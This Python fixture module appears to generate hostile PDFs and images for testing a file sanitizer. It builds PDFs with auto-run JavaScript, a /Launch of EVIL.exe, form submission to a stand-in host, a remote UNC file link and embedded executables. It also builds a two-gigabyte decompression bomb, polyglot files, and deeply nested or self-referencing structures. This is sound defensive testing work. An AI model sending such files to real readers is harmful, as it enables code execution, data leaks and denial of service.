"""Files that somebody could send to hurt whoever opens them, made here. Each PDF that may live carries MARKER where it acts."""

import base64
import zipfile
import zlib
from io import BytesIO

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject

MARKER = b"EVIL"


def pdf(
    page=b"",
    catalog=b"",
    more=(),
    contents=b"BT /F1 12 Tf 72 700 Td (Notice) Tj ET",
    trailer=b"",
    filters=b"",
):
    """A PDF of one page, to be spoiled; objects of `more` are numbered from 6."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + page
        + (b"" if b"/Resources" in page else b" /Resources << /Font << /F1 5 0 R >> >>") + b" >>",
        stream(contents, filters),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ]  # fmt: skip
    body, places = b"%PDF-1.7\n", []
    for number, written in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
    return body + table + end % (len(objects) + 1, trailer, len(body))


def stream(content, entries=b""):
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(content), content)


def image(kind="JPEG", size=(64, 48), mode="RGB", **more):
    file = BytesIO()
    Image.new(mode, size, 1).save(file, kind, **more)
    return file.getvalue()


def tagged_photo():
    """As a phone makes it: lying on its side, with the place it was taken at, a comment and a colour profile."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "EVILPHONE"
    exif.get_ifd(0x8825).update({1: "N", 2: (40.0, 44.0, 54.0), 3: "W", 4: (73.0, 59.0, 8.0)})
    return image(exif=exif, comment=b"EVIL comment", icc_profile=b"EVIL profile")


def tagged_png():
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", "EVIL")
    notes.add_itxt("XML:com.adobe.xmp", "EVIL", zip=False)
    return image("PNG", pnginfo=notes)


def locked_pdf(password, algorithm="RC4-128"):
    writer = PdfWriter(clone_from=BytesIO(form()))
    writer.encrypt(password, "EVIL", algorithm=algorithm)
    return written(writer)


def many_pages(count):
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(200, 200)
    return written(writer)


def written(writer):
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


def png_of_size(width, height):
    """The head says so much; the body is a few zeros."""

    def chunk(name, content):
        whole = name + content
        return len(content).to_bytes(4) + whole + zlib.crc32(whole).to_bytes(4)

    head = width.to_bytes(4) + height.to_bytes(4) + b"\x08\x02\0\0\0"
    body = zlib.compress(bytes(100_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def moving(kind):
    frames = [Image.new("RGB", (8, 8), (shade, 0, 0)) for shade in range(0, 200, 2)]
    file = BytesIO()
    frames[0].save(file, kind, save_all=True, append_images=frames[1:])
    return file.getvalue()


def archive():
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("EVIL.txt", bytes(10_000_000))
    return file.getvalue()


def pdf_bomb():
    """Two megabytes that unfold into two gigabytes."""
    folder = zlib.compressobj(9)
    body = b"".join(folder.compress(bytes(1024 * 1024)) for _ in range(2048)) + folder.flush()
    return pdf(contents=body, filters=b"/Filter /FlateDecode")


def form(value=b"(Honduras)", look=True, catalog=b""):
    """A page with a field; its look draws the answer."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (EVIL) /V " + value + b" /Rect [72 600 272 620]"
    field += b" /AA << /K << /S /JavaScript /JS (EVIL) >> >>" + (
        b" /AP << /N 7 0 R >> >>" if look else b" >>"
    )
    drawn = stream(
        b"BT /F1 12 Tf 2 4 Td (Honduras) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 5 0 R >> >>",
    )
    return pdf(b"/Annots [6 0 R]", b"/AcroForm << /Fields [6 0 R] " + catalog + b" >>", [field, drawn])


def photo_in_pdf(photo, folded=b"/DCTDecode", more=b"/ColorSpace /DeviceRGB /BitsPerComponent 8"):
    entries = b"/Type /XObject /Subtype /Image /Width 64 /Height 48 " + more
    return pdf(
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im 6 0 R >> >>",
        more=[stream(photo, entries + b" /Filter " + folded)],
    )


def layered(at_first):
    """The word Notice lies on no layer, Shown on the first, Hidden on the second, where a box and a stamp are too; a square
    hangs on a rule about both."""
    drawing = b"BT /F1 12 Tf 72 700 Td (Notice) Tj ET /OC /One BDC BT /F1 12 Tf 72 600 Td (Shown) Tj ET EMC"
    drawing += (
        b" /OC /Two BDC BT /F1 12 Tf 72 500 Td (Hidden) Tj ET EMC /Box Do /OC /Both BDC 0 0 1 1 re f EMC"
    )
    layer = b"<< /Type /OCG /Name (EVIL) /Usage << /CreatorInfo << /Creator (EVIL) >> /View << /ViewState /OFF >> >> >>"
    stamp = b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /OC 7 0 R /AP << /N 8 0 R >> >>"
    box = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OC 7 0 R"
    return pdf(
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Box 8 0 R >> /Properties"
        b" << /One 6 0 R /Two 7 0 R /Both 9 0 R /Other << /EVIL (EVIL) >> >> >> /Annots [" + stamp + b"]",
        b"/OCProperties << /OCGs [6 0 R 7 0 R] /D << /Name (EVIL) /Order [[(EVIL) 6 0 R]] "
        + at_first
        + b" >> >>",
        [
            layer,
            layer,
            stream(b"0 0 9 9 re f", box),
            b"<< /Type /OCMD /OCGs [6 0 R 7 0 R] /P /AllOn /VE [/And 6 0 R [/Not 7 0 R]] >>",
        ],
        contents=drawing,
    )


def deep_pdf():
    return pdf(b"/Resources << /Font << /F1 " + b"[" * 100_000 + b"]" * 100_000 + b" >> >>")


def acting(action):
    return pdf(catalog=b"/OpenAction << /S " + action + b" >>")


LINK = (
    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://EVIL.example) >> >>]"
)
ATTACHED = b"<< /Type /Filespec /F (EVIL.exe) /EF << /F 7 0 R >> >>"

# Each still says "Notice" when it is rebuilt.
LIVING_PDFS = {
    "script on opening": acting(b"/JavaScript /JS (app.alert\\('EVIL'\\))"),
    "program on opening": acting(b"/Launch /F (EVIL.exe) /Win << /F (EVIL.exe) >>"),
    "form sent on opening": acting(b"/SubmitForm /F (http://EVIL.example)"),
    "another file on opening": acting(b"/GoToR /F (\\\\\\\\EVIL\\\\share) /D [0 /Fit]"),
    "scripts by name": pdf(
        catalog=b"/Names << /JavaScript << /Names [(EVIL) << /S /JavaScript /JS (EVIL) >>] >> >>"
    ),
    "attached file": pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(EVIL) 6 0 R] >> >> /AF [6 0 R]",
        more=[ATTACHED, stream(b"EVIL", b"/Type /EmbeddedFile")],
    ),
    "attached to the page": pdf(
        b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]",
        more=[ATTACHED, stream(b"EVIL", b"/Type /EmbeddedFile")],
    ),
    "page that acts": pdf(b"/AA << /O << /S /JavaScript /JS (EVIL) >> >>"),
    "link": pdf(LINK),
    "film": pdf(
        b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /X (EVIL) >> >>]"
    ),
    "XFA": pdf(catalog=b"/AcroForm << /XFA [(template) 6 0 R] /Fields [] >>", more=[stream(b"<EVIL/>")]),
    "form with scripts": form(),
    "author and title": pdf(trailer=b"/Info << /Author (EVIL) /Title (EVIL) >> /ID [<4556494C> <4556494C>]"),
    "XMP": pdf(catalog=b"/Metadata 6 0 R", more=[stream(b"<x>EVIL</x>", b"/Type /Metadata /Subtype /XML")]),
    "maker's notes": pdf(b"/PieceInfo << /X << /Private (EVIL) >> >> /LastModified (EVIL)"),
    "action hidden in a font": pdf(
        b"/Resources << /Font << /F1 6 0 R >> >>",
        more=[
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /X << /Type /Action /S /JavaScript /JS (EVIL) >> >>"
        ],
    ),
    "picture from another server": pdf(
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>",
        more=[
            stream(
                b"",
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F << /FS /URL /F (http://EVIL) >> /Ref << /F (EVIL) >>",
            )
        ],
    ),
    "PostScript": pdf(
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>",
        more=[stream(b"EVIL exec", b"/Type /XObject /Subtype /PS")],
    ),
    "photo with notes": photo_in_pdf(tagged_photo()),
    "photo with notes, as letters": photo_in_pdf(
        base64.a85encode(tagged_photo()) + b"~>", b"[/ASCII85Decode /DCTDecode] % EVIL\n"
    ),
    "photo with notes, folded": photo_in_pdf(
        zlib.compress(tagged_photo()), b"[/FlateDecode /DCTDecode] % EVIL\n"
    ),
    "layers with names": layered(b"/OFF [7 0 R]"),
    "JPEG 2000 with notes": photo_in_pdf(image("JPEG2000", comment="EVIL"), b"/JPXDecode", b""),
    "zip behind it": pdf() + archive(),
    "page behind it": pdf() + b"<script>EVIL</script>",
    "later version appended": pdf() + b"9 0 obj\n<< /S /JavaScript /JS (EVIL) >>\nendobj\n",
}

LIVING_PICTURES = {
    "photo with place": tagged_photo(),
    "png with notes": tagged_png(),
    "zip behind a photo": image() + archive(),
    "page behind a png": image("PNG") + b"<script>EVIL</script>",
    "page in a comment": image(comment=b"<script>EVIL</script>"),
    "two photos in one": moving("MPO") + MARKER,
}

REFUSED = {
    "nothing": (b"", "no-paper"),
    "html": (b"<html><script>EVIL</script>", "no-paper"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL()'/>", "no-paper"),
    "gif of many": (moving("GIF"), "no-paper"),
    "tiff": (image("TIFF"), "no-paper"),
    "program": (b"MZ\x90\0" + bytes(200), "no-paper"),
    "zip": (archive(), "no-paper"),
    "zip that calls itself a pdf": (archive() + pdf(), "no-paper"),
    "postscript": (b"%!PS-Adobe-3.0\n(EVIL) run", "no-paper"),
    "heic": (b"\0\0\0\x18ftypheic" + bytes(99), "heic"),
    "moving png": (moving("PNG"), "moves"),
    "half a photo": (image(size=(640, 480))[:400], "broken"),
    "half a png": (image("PNG", size=(640, 480))[:80], "broken"),
    "huge png": (png_of_size(30_000, 30_000), "too-large"),
    "impossible png": (png_of_size(2**31 - 1, 2**31 - 1), "too-large"),
    "photo of rubbish": (b"\xff\xd8\xff\xe0" + b"rubbish" * 999, "broken"),
    "half a pdf": (b"%PDF-1.4 that never ends", "broken"),
    "pdf without pages": (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "broken",
    ),
    "locked pdf": (locked_pdf("secret"), "locked"),
    "locked pdf, the newer way": (locked_pdf("secret", "AES-256"), "locked"),
    "too many pages": (many_pages(201), "too-long"),
    "pdf bomb": (pdf_bomb(), "too-hard"),
    "bomb in a bomb": (pdf(filters=b"/Filter [/FlateDecode /FlateDecode]"), "broken"),
    "deep pdf": (deep_pdf(), "broken"),
    "page that is no page": (pdf().replace(b"/Kids [3 0 R]", b"/Kids [9 0 R]"), "broken"),
    "words that are missing": (pdf().replace(b"/Contents 4 0 R", b"/Contents 9 0 R"), "broken"),
    "answer that nothing shows": (form(look=False), "form"),
    "answer with a stale look": (form(catalog=b"/NeedAppearances true"), "form"),
    "form made while reading": (
        pdf(catalog=b"/NeedsRendering true /AcroForm << /XFA [] /Fields [] >>"),
        "form",
    ),
    "JBIG2 within": (photo_in_pdf(b"rubbish", b"/JBIG2Decode"), "picture-within"),
    "JBIG2 within, folded": (photo_in_pdf(b"", b"[/FlateDecode /JBIG2Decode]"), "picture-within"),
    "JPEG 2000 of rubbish": (photo_in_pdf(b"rubbish", b"/JPXDecode"), "broken"),
    "JPEG 2000 as words": (pdf(contents=image("JPEG2000"), filters=b"/Filter /JPXDecode"), "broken"),
    "JPEG 2000 one looks through": (
        photo_in_pdf(image("JPEG2000", mode="RGBA"), b"/JPXDecode", b"/SMaskInData 1"),
        "picture-within",
    ),
    "JPEG 2000 in other colours": (
        photo_in_pdf(image("JPEG2000", mode="L"), b"/JPXDecode", b"/ColorSpace /DeviceRGB"),
        "picture-within",
    ),
    "JPEG 2000 of a palette": (
        photo_in_pdf(
            image("JPEG2000", mode="L"), b"/JPXDecode", b"/ColorSpace [/Indexed /DeviceRGB 1 <0000000000FF>]"
        ),
        "picture-within",
    ),
    "enormous picture within": (
        pdf(
            b"/Resources << /XObject << /X 6 0 R >> >>",
            more=[stream(b"", b"/Subtype /Image /Width 99999 /Height 99999")],
        ),
        "too-large",
    ),
}


def tree_that_bites_its_tail():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    pages = writer.root_object["/Pages"]
    pages["/Kids"].append(pages.indirect_reference)
    pages[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): pages.indirect_reference})
    return written(writer)
